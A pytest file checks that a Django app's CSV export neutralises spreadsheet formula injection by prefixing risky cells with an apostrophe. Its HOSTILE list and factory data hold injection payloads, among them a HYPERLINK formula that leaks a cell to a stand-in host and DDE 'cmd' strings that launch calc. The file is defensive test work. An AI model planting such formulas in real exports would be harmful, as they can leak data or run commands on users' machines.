"""A cell a spreadsheet would run as a formula (starting =, +, -, @, tab or
carriage return) is exported with a leading apostrophe, so it shows as the
words it is; every other cell is exactly as stored."""

import csv
import io

import pytest

from core.exports import neutralise
from tests.factories import OfficialFactory, SourceFactory, StatementFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_prefixes_formula_starts(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["Plain words.", "A sum: =1+1 in the middle", "", "'already quoted", "1-2"],
)
def test_neutralise_leaves_other_text_alone(value):
    assert neutralise(value) == value


def test_neutralise_formats_other_types():
    import datetime

    assert neutralise(None) == ""
    assert neutralise(42) == "42"
    assert neutralise(-3) == "-3"  # a number is not a formula
    assert neutralise(datetime.date(2019, 7, 1)) == "2019-07-01"
    assert neutralise(["=a", "b"]) == "'=a; b"


def test_hostile_cells_in_the_export_are_neutralised(client):
    person = OfficialFactory(name="=cmd|' /C calc'!A0", slug="formula-person")
    source = SourceFactory(title="@SUM(A1:A9)", publisher="-Fictional", url="https://example.org/x")
    hostile = [
        StatementFactory(official=person, text=text, context="+context", source=source)
        for text in HOSTILE
    ]
    plain = StatementFactory(text="Plain words.", context="Said plainly.")
    body = b"".join(client.get("/quotes/?format=csv").streaming_content).decode("utf-8")
    rows = {int(row["id"]): row for row in csv.DictReader(io.StringIO(body.lstrip("\ufeff")))}
    for statement, text in zip(hostile, HOSTILE, strict=True):
        row = rows[statement.pk]
        assert row["text"] == "'" + text
        assert row["context"] == "'+context"
        assert row["official"] == "'=cmd|' /C calc'!A0"
        assert row["source_title"] == "'@SUM(A1:A9)"
        assert row["source_publisher"] == "'-Fictional"
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert rows[plain.pk]["text"] == "Plain words."
    assert rows[plain.pk]["context"] == "Said plainly."
